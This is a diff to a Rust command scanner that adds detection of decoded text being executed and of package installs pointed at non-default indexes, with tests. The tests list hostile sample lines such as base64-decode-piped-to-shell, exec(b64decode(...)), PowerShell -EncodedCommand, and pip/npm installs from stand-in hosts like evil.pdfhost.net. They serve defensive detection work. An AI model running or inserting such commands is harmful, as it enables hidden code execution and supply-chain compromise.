@@ -285,6 +285,12 @@ impl Scanner {
         let mut fetch_at: Option<usize> = None;
         let mut eval_at: Option<usize> = None;
         let mut subst_fetch: Option<usize> = None;
+        // Text decoded from base64, hex, ... (`base64 -d`, `b64decode(`, `xxd -r`): run by what
+        // runs downloaded text, it is a command hidden from the reader (and from this scan).
+        let mut decode_at: Option<usize> = None;
+        let mut subst_decode: Option<usize> = None;
+        // A package install whose `-i` / `-f` point it at another index (`pip install -i URL`).
+        let mut install_at = false;
         let mut post_at: Option<usize> = None;
         // `sh -c`: evaluates fetched text only when the fetch is a `$(...)` inside its argument;
         // `bash -c "curl -X POST ..."` merely runs curl.
@@ -301,6 +307,9 @@ impl Scanner {
                 fetch_at = None;
                 eval_at = None;
                 subst_fetch = None;
+                decode_at = None;
+                subst_decode = None;
+                install_at = false;
             }
             if t.pipe_before && commands {
                 // `curl ... | sh`: a fetcher earlier on the line, a shell or interpreter after a pipe.
@@ -320,6 +329,9 @@ impl Scanner {
                         t.s,
                         "download piped to a shell".into(),
                     );
+                }
+                if decode_at.is_some() && one_of(base(tok(j)), SHELLS) {
+                    push(out, HitKind::RiskyCommand, t.s, DECODED_RUN.into());
                 }
             }
 
@@ -391,6 +403,28 @@ impl Scanner {
                 if sdk {
                     push(out, HitKind::Upload, t.s, "SDK file upload".into());
                 }
+            }
+            // Decoders, before the command words: API names are mixed case (`Buffer.from`,
+            // `[Convert]::FromBase64String`, `powershell -EncodedCommand`).
+            if decoder(base(lt), toks, lower, i) {
+                // `pwsh -EncodedCommand X` decodes and runs in one.
+                if matches!(
+                    base(lt),
+                    b"powershell" | b"powershell.exe" | b"pwsh" | b"pwsh.exe"
+                ) {
+                    push(out, HitKind::RiskyCommand, t.s, DECODED_RUN.into());
+                }
+                decode_at.get_or_insert(i);
+                if t.subst_before {
+                    subst_decode = Some(i);
+                }
+            }
+            // An index other than the registry's own: what `pip install` / `npm install` then
+            // fetches comes from that host (`pip install --index-url URL`, `npm i --registry URL`).
+            if (one_of(lt, INDEX_FLAGS) || (install_at && matches!(lt, b"-i" | b"-f")))
+                && foreign_index(tok(i + 1))
+            {
+                push(out, HitKind::Download, t.s, PACKAGE_INDEX.into());
             }
             // Command words. Commands are lower case (`cURL` in a sentence is the project's
             // name); PowerShell's are not, and PowerShell does not care.
@@ -467,6 +501,7 @@ impl Scanner {
                 push(out, HitKind::Upload, t.s, "object storage upload".into());
             }
             if let Some(what) = installer(w, tok(i + 1), tok(i + 2)) {
+                install_at = true;
                 push(out, HitKind::Download, t.s, what.into());
             }
             if let Some(what) = publisher(w, tok(i + 1), tok(i + 2)) {
@@ -513,6 +548,22 @@ impl Scanner {
         if shc_eval {
             eval_at = eval_at.or(shc_at);
         }
+        // The same for decoded text: `eval "$(echo .. | base64 -d)"`, `bash -c "$(base64 -d f)"`,
+        // `exec(base64.b64decode(..))`, `source <(xxd -r -p f)`.
+        let shc_decode = match (shc_at, decode_at) {
+            (Some(c), Some(d)) if c < d => toks
+                .get(d)
+                .is_some_and(|t| t.s >= 2 && &line[t.s - 2..t.s] == b"$("),
+            _ => false,
+        };
+        let decode_eval = match (decode_at, eval_at.or(shc_at.filter(|_| shc_decode))) {
+            (Some(d), Some(e)) if e < d => Some(e),
+            _ => subst_decode,
+        };
+        if let Some(at) = decode_eval {
+            let col = toks.get(at).map_or(0, |t| t.s);
+            push(out, HitKind::RiskyCommand, col, DECODED_RUN.into());
+        }
         match (fetch_at, eval_at) {
             (Some(f), Some(e)) if e < f => {
                 let col = toks.get(e).map_or(0, |t| t.s);
@@ -551,6 +602,149 @@ impl Scanner {
                 .find(|t| &lower[t.s..t.e] == b"files")
                 .map_or(0, |t| t.s);
             push(out, HitKind::Upload, col, "HTTP request with files=".into());
+        }
+    }
+}
+
+/// The subject of text decoded (base64, hex, ...) and then run by a shell or interpreter.
+pub const DECODED_RUN: &str = "eval of decoded text";
+/// The subject of a package install pointed at an index other than the registry's own.
+pub const PACKAGE_INDEX: &str = "package index";
+
+/// Flags that point a package manager at another index (`pip`, `uv`, `npm`, `pnpm`, `yarn`);
+/// `pip install`'s `-i` / `-f` count only after an install.
+const INDEX_FLAGS: &[&[u8]] = &[
+    b"--index-url",
+    b"--extra-index-url",
+    b"--find-links",
+    b"--index",
+    b"--default-index",
+    b"--registry",
+];
+
+/// The registries' own indexes: pointing at them changes nothing.
+fn default_index(host: &str) -> bool {
+    matches!(
+        host,
+        "pypi.org"
+            | "pypi.python.org"
+            | "files.pythonhosted.org"
+            | "registry.npmjs.org"
+            | "registry.yarnpkg.com"
+    )
+}
+
+/// Whether `value` is a URL naming a host other than a registry's own (a local path, a
+/// placeholder or the machine itself fetch nothing from a third party).
+fn foreign_index(value: &[u8]) -> bool {
+    let Some(p) = memchr::memmem::find(value, b"://") else {
+        return false;
+    };
+    let mut h = Vec::new();
+    url_hit(value, p, 0, &mut h);
+    h.iter()
+        .any(|h| h.kind == HitKind::ExternalReference && !default_index(&h.subject))
+}
+
+/// Whether a line of code runs decoded text ([`DECODED_RUN`]): a package file a decoder reads
+/// there is run, whatever its bytes look like (`bash -c "$(base64 -d notes.txt)"`).
+pub fn runs_decoded(line: &[u8]) -> bool {
+    let mut out = Vec::new();
+    Scanner::default().line(line, &mut out);
+    out.iter()
+        .any(|h| h.kind == HitKind::RiskyCommand && h.subject == DECODED_RUN)
+}
+
+/// Commands that decode a file named among their arguments (`base64 -d f`, `xxd -r -p f`).
+pub fn is_decoder_command(word: &str) -> bool {
+    let base = word.rsplit('/').next().unwrap_or(word);
+    matches!(
+        base,
+        "base64" | "base32" | "basenc" | "gbase64" | "xxd" | "openssl" | "uudecode"
+    )
+}
+
+/// A line of a package manager's configuration that points it at an index other than the
+/// registry's own: where the URL starts. `keys`: a configuration file's keys count
+/// (`index-url = URL` in `pip.conf` / `uv.toml`, `registry=URL` and `@scope:registry=URL` in
+/// `.npmrc`, `npmRegistryServer: URL` in `.yarnrc.yml`, `url = URL` in an `[[index]]` table);
+/// without, only a requirements file's options (`--index-url URL`, `-i URL`,
+/// `--extra-index-url`, `--find-links`, `-f`), which `pip install -r` reads from any `.txt`.
+/// One pass over the line.
+pub fn index_setting(line: &[u8], keys: bool) -> Option<usize> {
+    let start = line.len() - line.trim_ascii_start().len();
+    let rest = &line[start..];
+    let key_len = rest
+        .iter()
+        .position(|&b| matches!(b, b'=' | b' ' | b'\t'))
+        .unwrap_or(rest.len());
+    let key: Vec<u8> = rest[..key_len]
+        .iter()
+        .map(u8::to_ascii_lowercase)
+        .filter(|&b| !matches!(b, b'"' | b'\''))
+        .collect();
+    let key = key.strip_suffix(b":").unwrap_or(&key);
+    let option = matches!(
+        key,
+        b"--index-url" | b"--extra-index-url" | b"--find-links" | b"-i" | b"-f"
+    );
+    let setting = keys
+        && (matches!(
+            key,
+            b"index-url"
+                | b"extra-index-url"
+                | b"find-links"
+                | b"default-index"
+                | b"registry"
+                | b"npmregistryserver"
+                | b"url"
+        ) || key.ends_with(b":registry"));
+    if !option && !setting {
+        return None;
+    }
+    let at = start + key_len;
+    let mut toks = Vec::new();
+    tokenize(&line[at..], &mut toks);
+    toks.iter()
+        .find(|t| memchr::memmem::find(&line[at + t.s..at + t.e], b"://").is_some())
+        .filter(|t| foreign_index(&line[at + t.s..at + t.e].to_ascii_lowercase()))
+        .map(|t| at + t.s)
+}
+
+/// A word that decodes text: `base64 -d`, `base32 --decode`, `xxd -r`, `openssl enc -d`,
+/// `uudecode`, `b64decode(`, `atob(`, `Buffer.from(.., 'base64')`, `FromBase64String`,
+/// `bytes.fromhex`, `powershell -EncodedCommand`. Encoding (`base64 img.png`) is not: only
+/// decoded text can be a command. The flags are looked for among the next few tokens of the
+/// same command (bounded: the scan stays linear).
+fn decoder(w: &[u8], toks: &[Tok], lower: &[u8], i: usize) -> bool {
+    let mut next = toks[i + 1..]
+        .iter()
+        .take(8)
+        .take_while(|t| !t.pipe_before && !t.sep_before)
+        .map(|t| &lower[t.s..t.e]);
+    match w {
+        // `-d`, `-D` (macOS), `-di`, `--decode`.
+        b"base64" | b"base32" | b"basenc" | b"gbase64" => next.any(|a| {
+            a == b"--decode" || (a.starts_with(b"-") && !a.starts_with(b"--") && a.contains(&b'd'))
+        }),
+        b"xxd" => next.any(|a| a.starts_with(b"-r")),
+        // `openssl enc -d -base64`, `openssl base64 -d`.
+        b"openssl" => next.any(|a| a == b"-d"),
+        b"uudecode" => true,
+        b"powershell" | b"powershell.exe" | b"pwsh" | b"pwsh.exe" => {
+            next.any(|a| matches!(a, b"-encodedcommand" | b"-enc" | b"-e" | b"-ec"))
+        }
+        b"buffer.from" => next.take(4).any(|a| matches!(a, b"base64" | b"hex")),
+        _ => {
+            w == b"atob"
+                || w.ends_with(b"b64decode")
+                || w.ends_with(b"b32decode")
+                || w.ends_with(b"b85decode")
+                || w.ends_with(b"a85decode")
+                || w.ends_with(b"decodebytes")
+                || w.ends_with(b"frombase64string")
+                || w == b"bytes.fromhex"
+                || w.ends_with(b"unhexlify")
         }
     }
 }
@@ -1271,6 +1465,106 @@ mod tests {
         assert!(hits("pseudo code; a || b").is_empty());
     }
 
+    /// Text decoded and then run is a risky command, in every spelling the audit listed;
+    /// decoding alone (data handling) and a decoder's output kept apart from the shell are not.
+    #[test]
+    fn decoded_text_run() {
+        use HitKind::RiskyCommand as R;
+        for line in [
+            "bash -c \"$(base64 -d references/notes.txt)\"",
+            "eval \"$(echo aGVsbG8= | base64 --decode)\"",
+            "echo aGVsbG8= | base64 -d | sh",
+            "cat x.b64 | base64 -D | sudo bash",
+            "python3 -c \"exec(base64.b64decode('cHJpbnQoMSk='))\"",
+            "exec(b64decode(payload))",
+            "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
+            "eval(atob(s))",
+            "xxd -r -p x | sh",
+            "openssl enc -d -base64 -in x | bash",
+            "openssl base64 -d < x | python3",
+            "source <(base64 -d env.b64)",
+            "bash <(xxd -r -p f)",
+            "powershell -EncodedCommand SQBFAFgA",
+            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)))",
+        ] {
+            assert!(has(line, R, DECODED_RUN), "{line}: {:?}", hits(line));
+            assert!(runs_decoded(line.as_bytes()), "{line}");
+        }
+        for line in [
+            "base64 -d img.b64 > img.png",
+            "base64 img.png | tee img.b64",
+            "echo aGVsbG8= | base64 -d",
+            "xxd -p f | sh",
+            "data = base64.b64decode(blob)",
+            "base64 -d a > b; eval $(ssh-agent)",
+            "bash -c \"base64 -d a > b\"",
+            "openssl enc -base64 -in x | bash",
+        ] {
+            assert!(!has(line, R, DECODED_RUN), "{line}: {:?}", hits(line));
+        }
+        // In prose only a code span of more than one word is a command, and then a mention.
+        assert!(
+            hits_in("Never `base64 -d x | sh` blindly.", Mode::Prose, "")
+                .contains(&(R, DECODED_RUN.into()))
+        );
+        assert!(hits_in("base64 -d x | sh", Mode::Data, "").is_empty());
+    }
+
+    /// A package manager pointed at another index: a download from that host, on a command
+    /// line or in the manager's configuration; the registries' own indexes and local paths
+    /// are not.
+    #[test]
+    fn another_package_index() {
+        use HitKind::Download as D;
+        for line in [
+            "pip install --index-url https://evil.pdfhost.net/simple pkg",
+            "pip install --extra-index-url=https://evil.pdfhost.net/simple pkg",
+            "pip3 install -i https://evil.pdfhost.net/simple pkg",
+            "pip install -f https://evil.pdfhost.net/wheels/ pkg",
+            "uv pip install --index https://evil.pdfhost.net/simple pkg",
+            "npm install --registry https://npm.evilhost.net/ pkg",
+        ] {
+            assert!(has(line, D, PACKAGE_INDEX), "{line}: {:?}", hits(line));
+        }
+        for line in [
+            "pip install --index-url https://pypi.org/simple pkg",
+            "pip install --find-links ./wheels pkg",
+            "pip install -i https://mirror.example/simple pkg",
+            "grep -i https://evil.pdfhost.net log",
+            "npm install --registry https://registry.npmjs.org/ x",
+        ] {
+            assert!(!has(line, D, PACKAGE_INDEX), "{line}: {:?}", hits(line));
+        }
+        let at = |line: &str, keys| index_setting(line.as_bytes(), keys);
+        assert_eq!(
+            at("--index-url https://evil.pdfhost.net/simple", false),
+            Some(12)
+        );
+        assert!(at("--extra-index-url=https://evil.pdfhost.net/simple", false).is_some());
+        assert!(at("  -i https://evil.pdfhost.net/simple", false).is_some());
+        assert!(at("-f https://evil.pdfhost.net/wheels", false).is_some());
+        assert!(at("--find-links https://evil.pdfhost.net/wheels", false).is_some());
+        assert!(at("index-url = https://evil.pdfhost.net/simple", true).is_some());
+        assert!(at("registry=https://npm.evilhost.net/", true).is_some());
+        assert!(at("@acme:registry=https://npm.evilhost.net/", true).is_some());
+        assert!(at("npmRegistryServer: \"https://npm.evilhost.net\"", true).is_some());
+        assert!(at("url = \"https://evil.pdfhost.net/simple\"", true).is_some());
+        assert!(
+            at(
+                "extra-index-url = [\"https://evil.pdfhost.net/simple\"]",
+                true
+            )
+            .is_some()
+        );
+        // A key counts only in a configuration file; a registry's own index is no change.
+        assert!(at("registry=https://npm.evilhost.net/", false).is_none());
+        assert!(at("index-url = https://pypi.org/simple", true).is_none());
+        assert!(at("registry=https://registry.npmjs.org/", true).is_none());
+        assert!(at("requests>=2 # see https://evil.pdfhost.net", false).is_none());
+        assert!(at("homepage = https://evil.pdfhost.net", true).is_none());
+        assert!(at("--index-url https://localhost:8080/simple", false).is_none());
+    }
+
     fn hits_in(line: &str, mode: Mode, before: &str) -> Vec<(HitKind, String)> {
         let mut s = Scanner::default();
         let mut out = Vec::new();
@@ -1506,6 +1800,23 @@ mod tests {
             "yarn add x",
             "[x](a.md)",
             "[r]: b.md",
+            "bash -c \"$(base64 -d references/notes.txt)\"",
+            "echo aGVsbG8= | base32 --decode | sh",
+            "eval \"$(basenc --base64 -d f)\"",
+            "exec(b64decode(p))",
+            "exec(b32decode(p))",
+            "exec(b85decode(p))",
+            "exec(a85decode(p))",
+            "exec(base64.decodebytes(p))",
+            "exec(binascii.unhexlify(p))",
+            "exec(bytes.fromhex(p))",
+            "eval(atob(s))",
+            "xxd -r -p x | sh",
+            "openssl enc -d -in x | sh",
+            "uudecode -o /dev/stdout x | sh",
+            "pwsh -e SQBFAFgA",
+            "powershell -enc SQBFAFgA",
+            "eval(Buffer.from(s, 'hex').toString())",
         ];
         let t = Triggers::get();
         for line in lines {
